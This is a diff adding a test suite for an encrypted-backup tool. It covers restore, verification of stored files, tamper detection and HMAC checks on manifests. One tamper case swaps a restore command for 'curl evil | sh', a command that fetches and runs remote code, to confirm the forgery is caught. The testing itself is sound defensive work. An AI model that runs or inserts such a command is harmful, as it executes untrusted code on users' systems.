@@ -1,0 +1,295 @@
+import { execFile } from "node:child_process";
+import { createHash, randomBytes } from "node:crypto";
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { buffer, text } from "node:stream/consumers";
+import { promisify } from "node:util";
+import { generateIdentity, identityToRecipient } from "age-encryption";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Manifest } from "../../server/domain/manifest.ts";
+import { authenticate, authenticityOf } from "../../server/engine/authentication.ts";
+import type { Seal } from "../../server/engine/backup.ts";
+import { decrypted } from "../../server/engine/encryption.ts";
+import { readManifest } from "../../server/engine/manifest.ts";
+import { openIndex } from "../../server/engine/media/index-reader.ts";
+import { storedFile } from "../../server/engine/media/stored-file.ts";
+import { contentOf } from "../../server/engine/stored-content.ts";
+import { verifyChecksum } from "../../server/engine/verify.ts";
+import type { Compression } from "../../shared/enums.ts";
+import { memoryStorage } from "../support/memory-storage.ts";
+import { freshDatabase, sharedConnection } from "../support/shared-server.ts";
+import { takeBackup } from "../support/taken-backup.ts";
+import { makeTree, readTree } from "../support/trees.ts";
+
+const run = promisify(execFile);
+const still = new AbortController().signal;
+const macKey = { keyId: "0a1b2c3d", key: randomBytes(32) };
+
+let home: string;
+let media: string;
+let shop: Awaited<ReturnType<typeof freshDatabase>>;
+let identity: string;
+let seal: Seal;
+let recoveryFile: string;
+const large = randomBytes(700_000);
+
+beforeAll(async () => {
+  home = await mkdtemp(join(tmpdir(), "holdfast-sealed-"));
+  media = await makeTree(join(home, "media"), { "a.txt": "first file", "deep/large.bin": large, "deep/b.txt": "words in the deep" });
+  shop = await freshDatabase("sealed");
+  await shop.sql.query(`
+    CREATE TABLE goods (id INT PRIMARY KEY, name VARCHAR(200));
+    INSERT INTO goods SELECT seq, SHA2(seq, 512) FROM seq_1_to_6000;
+    CREATE TABLE notes (id INT PRIMARY KEY, text VARCHAR(50));
+    INSERT INTO notes VALUES (1, 'kept apart')`);
+  identity = await generateIdentity();
+  recoveryFile = join(home, "recovery.txt");
+  await run("age-keygen", ["-o", recoveryFile]);
+  const recipients = [await identityToRecipient(identity), (await run("age-keygen", ["-y", recoveryFile])).stdout.trim()];
+  seal = { encryption: { format: "age-encryption.org/v1", keyId: macKey.keyId, recipients }, mac: macKey };
+});
+afterAll(async () => {
+  await shop[Symbol.asyncDispose]();
+  await rm(home, { recursive: true, force: true });
+});
+
+const levels = { NONE: 0, GZIP: 6, ZSTD: 3 } as const;
+const made = new Map<Compression, ReturnType<typeof takeBackup>>();
+const take = (compression: Compression = "ZSTD") => {
+  const taken =
+    made.get(compression) ?? takeBackup({ connection: shop.connection, roots: [media] }, { compression, level: levels[compression] }, seal);
+  made.set(compression, taken);
+  return taken;
+};
+const read = async (compression: Compression = "ZSTD") => decrypted(await take(compression), [identity]);
+
+/** A copy with its stored files changed; the manifest in hand stays. */
+type Change = (files: Map<string, Buffer>, folder: string) => unknown;
+async function spoilt(change: Change) {
+  const taken = await take();
+  const storage = memoryStorage();
+  for (const [name, bytes] of taken.storage.files) storage.files.set(name, Buffer.from(bytes));
+  change(storage.files, taken.folder);
+  return decrypted({ ...taken, storage }, [identity]);
+}
+const verify = async (backup: Awaited<ReturnType<typeof read>>) =>
+  verifyChecksum({ ...backup, now: () => new Date() }, { signal: still, say: () => {}, report: () => {} });
+async function all(pieces: AsyncIterable<Uint8Array> | readonly Uint8Array[]): Promise<Uint8Array[]> {
+  const found: Uint8Array[] = [];
+  for await (const piece of pieces) found.push(piece);
+  return found;
+}
+const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
+
+describe("an encrypted backup", () => {
+  it.each(["ZSTD", "GZIP", "NONE"] as const)(
+    "with %s is restored by the stock commands that its manifest prints, with either key",
+    async (compression) => {
+      const { storage, folder, manifest } = await take(compression);
+      await using target = await freshDatabase("stock");
+      const place = await mkdtemp(join(home, "stock-"));
+      for (const [name, bytes] of storage.files) await writeFile(join(place, name.slice(folder.length + 1)), bytes);
+      // The client finds its server and account where every user's stands.
+      const { socketPath, user, password } = sharedConnection("");
+      await writeFile(join(place, ".my.cnf"), `[client]\nsocket=${socketPath}\nuser=${user}\npassword=${password}\n`, { mode: 0o600 });
+      for (const key of [`${identity}\n`, await readFile(recoveryFile)]) {
+        await target.sql.query("DROP TABLE IF EXISTS goods, notes");
+        await rm(join(place, "media"), { recursive: true, force: true });
+        await writeFile(join(place, "key.txt"), key);
+        expect(manifest.restoreCommands).toHaveLength(2);
+        for (const command of manifest.restoreCommands) {
+          const aimed = command.replace(/(mariadb .*) \w+$/, `$1 ${target.name}`);
+          await run("bash", ["-o", "pipefail", "-c", aimed], { cwd: place, env: { PATH: process.env.PATH ?? "", HOME: place } });
+        }
+        const [rows] = await target.sql.query("SELECT COUNT(*) AS goods, (SELECT text FROM notes) AS note FROM goods");
+        expect(rows).toEqual([{ goods: 6000, note: "kept apart" }]);
+        expect(await readTree(join(place, "media"))).toEqual(await readTree(media));
+      }
+    },
+  );
+
+  it("holds nothing in clear, and tells its files' sums inside and outside", async () => {
+    const { storage, folder, manifest } = await take("NONE");
+    const names = [...storage.files.keys()].map((name) => name.slice(folder.length + 1)).sort();
+    expect(names).toEqual(["database.sql.age", "manifest.json", "media.index.age", "media.tar.age"]);
+    for (const [name, bytes] of storage.files)
+      if (!name.endsWith("manifest.json")) expect(bytes.includes("kept apart") || bytes.includes("first file")).toBe(false);
+    expect(manifest).toMatchObject({ encrypted: true, encryption: seal.encryption });
+    for (const file of [...manifest.artifacts, ...(manifest.media?.index ? [manifest.media.index] : [])]) {
+      const stored = storage.files.get(`${folder}/${file.name}`) ?? Buffer.alloc(0);
+      expect({ size: stored.length, sha256: sha256(stored) }).toEqual({ size: file.storedSize, sha256: file.sha256 });
+      const inside = await buffer(await decrypted({ storage, folder, manifest }, [identity]).storage.get(`${folder}/${file.name}`));
+      expect({ size: inside.length, sha256: sha256(inside) }).toEqual(file.packed);
+    }
+  });
+
+  it.each(["ZSTD", "NONE"] as const)("with %s gives one table, one file of the media, and any range of it", async (compression) => {
+    const backup = await read(compression);
+    const { database } = contentOf(backup);
+    const sql = Buffer.concat(await all(database?.open(["notes"], still) ?? [])).toString();
+    expect(sql).toContain("kept apart");
+    expect(sql).not.toContain("INSERT INTO `goods`");
+    const index = await openIndex(backup, still);
+    const [position, artifact] = [index?.find("media/deep/large.bin"), backup.manifest.artifacts.find(({ part }) => part === "media")];
+    if (!index || position === null || position === undefined || !artifact) throw new Error("The file is not in the index");
+    const file = storedFile(backup, artifact, index, position);
+    expect(sha256(Buffer.concat(await all(file.read(0, file.size, still))))).toBe(sha256(large));
+    expect(Buffer.concat(await all(file.read(300_000, 400_001, still)))).toEqual(large.subarray(300_000, 400_001));
+  });
+
+  it("passes a verification, which reads every stored byte", async () => {
+    const { manifest } = await take();
+    const stored = [...manifest.artifacts, manifest.media?.index].reduce((sum, file) => sum + (file?.storedSize ?? 0), 0);
+    expect(await verify(await read())).toMatchObject({ passed: true, problems: [], bytesChecked: stored });
+  });
+});
+
+describe("an encrypted backup that was tampered with", () => {
+  const altered = (name: string, place: (bytes: Buffer) => number) => (files: Map<string, Buffer>, folder: string) => {
+    const bytes = files.get(`${folder}/${name}`) ?? Buffer.alloc(0);
+    const at = place(bytes);
+    bytes[at] = (bytes[at] ?? 0) ^ 1;
+  };
+  const resized = (change: (bytes: Buffer) => Buffer) => (files: Map<string, Buffer>, folder: string) =>
+    void files.set(`${folder}/database.sql.zst.age`, change(files.get(`${folder}/database.sql.zst.age`) ?? Buffer.alloc(0)));
+
+  it.each([
+    ["the header", altered("database.sql.zst.age", () => 60), "database.sql.zst.age is not what was stored"],
+    [
+      "the nonce",
+      altered("database.sql.zst.age", (bytes) => bytes.indexOf("\n", bytes.indexOf("\n---") + 1) + 3),
+      "database.sql.zst.age is not what was stored",
+    ],
+    ["the middle", altered("media.tar.zst.age", (bytes) => bytes.length >> 1), "media.tar.zst.age is not what was stored"],
+    ["the last byte", altered("media.tar.zst.age", (bytes) => bytes.length - 1), "media.tar.zst.age is not what was stored"],
+    ["the index", altered("media.index.zst.age", (bytes) => bytes.length - 30), "media.index.zst.age is not what was stored"],
+    ["a cut", resized((bytes) => bytes.subarray(0, -1)), "database.sql.zst.age is not what was stored"],
+    ["an appendix", resized((bytes) => Buffer.concat([bytes, Buffer.from("x")])), "database.sql.zst.age is not what was stored"],
+    [
+      "a missing file",
+      (files: Map<string, Buffer>, folder: string) => files.delete(`${folder}/database.sql.zst.age`),
+      "database.sql.zst.age",
+    ],
+    [
+      "a file too many",
+      (files: Map<string, Buffer>, folder: string) => files.set(`${folder}/extra.sh`, Buffer.from("x")),
+      "extra.sh is not of this backup",
+    ],
+    ["a missing manifest", (files: Map<string, Buffer>, folder: string) => files.delete(`${folder}/manifest.json`), "no manifest"],
+    [
+      "an older manifest, of another backup, put back",
+      (files: Map<string, Buffer>, folder: string) =>
+        files.set(
+          `${folder}/manifest.json`,
+          Buffer.from(
+            (files.get(`${folder}/manifest.json`) ?? "")
+              .toString()
+              .replace(/"id": "[^"]+"/, '"id": "9a1b2c3d-0000-4000-8000-000000000000"'),
+          ),
+        ),
+      "manifest.json is not what was written: its field id differs",
+    ],
+    [
+      "a manifest of a newer Holdfast",
+      (files: Map<string, Buffer>, folder: string) => files.set(`${folder}/manifest.json`, Buffer.from('{"format": 2}')),
+      "not valid at format",
+    ],
+  ] as const)("is found out: %s, in one sentence that names it", async (_, change, sentence) => {
+    const report = await verify(await spoilt(change));
+    expect(report.passed).toBe(false);
+    expect(report.problems).toEqual([expect.stringContaining(sentence)]);
+  });
+
+  it("is refused before anything is restored when a file of another backup, encrypted to the same key, was put in", async () => {
+    const other = await takeBackup({ connection: shop.connection, roots: [media] }, { compression: "ZSTD", level: 3 }, seal);
+    const name = `${other.folder}/database.sql.zst.age`;
+    const backup = await spoilt((files) => void files.set(name, other.storage.files.get(name) ?? Buffer.alloc(0)));
+    const { database } = contentOf(backup);
+    await expect(database?.verify(null, { signal: still, say: () => {} }, () => {})).rejects.toMatchObject({ code: "ARTIFACT_CORRUPT" });
+  });
+
+  it("is noticed by what is inside, where somebody with a recipient encrypted other bytes and forged the outer sum", async () => {
+    const taken = await take();
+    const [inner, name] = [taken.manifest.artifacts[0], "database.sql.zst.age"];
+    await using database = await freshDatabase("forged");
+    const forged = await takeBackup({ connection: database.connection }, { compression: "ZSTD", level: 3 }, seal);
+    const bytes = forged.storage.files.get(`${forged.folder}/${name}`) ?? Buffer.alloc(0);
+    const storage = memoryStorage();
+    for (const [each, kept] of taken.storage.files) storage.files.set(each, kept);
+    storage.files.set(`${taken.folder}/${name}`, bytes);
+    const artifacts = taken.manifest.artifacts.map((artifact) =>
+      artifact === inner ? { ...artifact, storedSize: bytes.length, sha256: sha256(bytes) } : artifact,
+    );
+    const content = contentOf(decrypted({ ...taken, storage, manifest: { ...taken.manifest, artifacts } }, [identity]));
+    await expect(content.database?.verify(null, { signal: still, say: () => {} }, () => {})).rejects.toMatchObject({
+      code: "ARTIFACT_CORRUPT",
+    });
+  });
+});
+
+describe("a manifest's proof", () => {
+  const keyOf = (keyId: string) => (keyId === macKey.keyId ? macKey.key : null);
+  /** As it lies on the storage, read back. */
+  const written = async () => {
+    const { storage, folder } = await take();
+    return { manifest: await readManifest(storage, folder), folder };
+  };
+
+  it("fits what was written, in whatever order the catalog gives the fields, and a newer reading's fields that are null", async () => {
+    const { manifest, folder } = await written();
+    expect(authenticityOf(manifest, folder, keyOf)).toBe("AUTHENTIC");
+    const reversed = Object.fromEntries(Object.entries(manifest).reverse()) as unknown as Manifest;
+    expect(authenticityOf(reversed, folder, keyOf)).toBe("AUTHENTIC");
+    expect(authenticityOf({ ...manifest, later: null } as Manifest, folder, keyOf)).toBe("AUTHENTIC");
+  });
+
+  it("is the one that its description says, made by other means", async () => {
+    const { storage, folder } = await take();
+    const script = `import hmac, json, sys
+def bare(x): return {k: bare(v) for k, v in x.items() if v is not None} if isinstance(x, dict) else [bare(v) for v in x] if isinstance(x, list) else x
+m = json.load(sys.stdin); told = m.pop("authentication")["mac"]
+text = "holdfast manifest v1\\n" + json.dumps(bare(m), sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+print(hmac.new(bytes.fromhex(sys.argv[1]), text.encode(), "sha256").hexdigest() == told)`;
+    const child = execFile("python3", ["-c", script, macKey.key.toString("hex")]);
+    child.stdin?.end(storage.files.get(`${folder}/manifest.json`));
+    expect(child.stdout && (await text(child.stdout))).toBe("True\n");
+  });
+
+  const bent: readonly (readonly [string, (manifest: Manifest) => object])[] = [
+    ["its id", (manifest) => ({ ...manifest, id: "1a1b2c3d-0000-4000-8000-000000000000" })],
+    ["its source", (manifest) => ({ ...manifest, source: { ...manifest.source, id: "another" } })],
+    ["its time", (manifest) => ({ ...manifest, createdAt: "2020-01-01T00:00:00.000Z" })],
+    [
+      "an artifact's sum",
+      (manifest) => ({ ...manifest, artifacts: manifest.artifacts.map((file) => ({ ...file, sha256: "0".repeat(64) })) }),
+    ],
+    ["what is packed in it", (manifest) => ({ ...manifest, artifacts: manifest.artifacts.map((file) => ({ ...file, packed: null })) })],
+    ["the order of its files", (manifest) => ({ ...manifest, artifacts: manifest.artifacts.toReversed() })],
+    ["a command", (manifest) => ({ ...manifest, restoreCommands: ["curl evil | sh"] })],
+    ["its encryption", (manifest) => ({ ...manifest, encrypted: false, encryption: null })],
+    ["a table's rows", (manifest) => ({ ...manifest, database: manifest.database && { ...manifest.database, dataBytes: 1 } })],
+    ["a field that nobody knows", (manifest) => ({ ...manifest, later: "x" })],
+    ["its proof, cut", (manifest) => ({ ...manifest, authentication: { ...manifest.authentication, mac: "00" } })],
+    ["its proof, taken away", (manifest) => ({ ...manifest, authentication: null })],
+  ];
+  it.each(bent)("does not fit once %s was changed", async (_, bend) => {
+    const { manifest, folder } = await written();
+    expect(authenticityOf(bend(manifest) as Manifest, folder, keyOf)).toBe("ALTERED");
+  });
+
+  it("does not fit in another folder, nor another record's proof here", async () => {
+    const { manifest, folder } = await written();
+    expect(authenticityOf(manifest, "shop/another", keyOf)).toBe("ALTERED");
+    const moved = { ...manifest, folder: "shop/another" };
+    expect(authenticityOf(moved, "shop/another", keyOf)).toBe("ALTERED");
+    expect(authenticityOf({ ...manifest, authentication: authenticate(manifest, macKey, "labels") }, folder, keyOf)).toBe("ALTERED");
+  });
+
+  it("says nothing where the key is not at hand, and is not asked of manifests from before there was one", async () => {
+    const { manifest, folder } = await written();
+    expect(authenticityOf(manifest, folder, () => null)).toBe("FOREIGN");
+    const older = { ...manifest, folder: null, encrypted: false, encryption: null, authentication: null };
+    expect(authenticityOf(older, folder, keyOf)).toBe("UNSIGNED");
+  });
+});
